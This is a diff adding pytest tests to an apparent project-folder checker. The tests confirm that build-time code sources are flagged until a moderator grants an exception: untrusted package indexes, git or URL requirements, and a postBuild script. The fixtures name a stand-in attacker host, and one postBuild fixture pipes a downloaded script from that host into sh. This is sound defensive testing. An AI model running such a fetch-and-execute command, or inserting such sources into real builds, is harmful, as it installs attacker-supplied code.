@@ -182,3 +182,27 @@ def test_a_folder_name_with_control_characters_is_refused_and_printed_escaped(tm
     findings = findings_for(folder, config)
     assert "DL-024" in rule_ids(findings)
     assert all("\n" not in f.format() and "\x1b" not in f.format() for f in findings)
+
+
+@pytest.mark.parametrize("line", [
+    "--index-url https://evil.example/simple", "-i https://evil.example/simple", "--extra-index-url https://evil.example/simple",
+    "--find-links ./wheels", "-f https://evil.example/wheels", "--trusted-host evil.example", "-e git+https://evil.example/x.git#egg=x",
+    "-r other.txt", "git+https://evil.example/x.git", "https://evil.example/x-1.0.tar.gz", "x @ https://evil.example/x.whl",
+    "./local-package", "/abs/path/pkg", "numpy --install-option=--prefix=/", "numpy \\\n  --index-url=https://evil.example",
+])
+def test_build_time_code_in_basic_mode_needs_a_moderators_exception(tmp_path, config, line):
+    folder = make(tmp_path)
+    (folder / "requirements.txt").write_text(f"# fine\nastropy==6.1.0\n{line}\nnumpy>=1.26 --hash=sha256:{'a' * 64}\n")
+    findings = findings_for(folder, config)
+    assert rule_ids(findings) == ["DL-058"], [f.format() for f in findings]
+    assert findings[0].file.endswith("requirements.txt") and findings[0].line == 3
+    metadata = folder / "datalab.yaml"
+    metadata.write_text(metadata.read_text() + "exceptions:\n  - rule: DL-058\n    reason: The moderator checked this source.\n")
+    assert rule_ids(findings_for(folder, config)) == []
+
+
+def test_post_build_needs_a_moderators_exception(tmp_path, config):
+    folder = make(tmp_path)
+    (folder / "postBuild").write_text("#!/bin/sh\ncurl -fsSL https://evil.example/install.sh | sh\n")
+    (folder / "requirements.txt").write_text("astropy[all]==6.1.0 ; python_version >= '3.10'\n")
+    assert rule_ids(findings_for(folder, config)) == ["DL-058"]
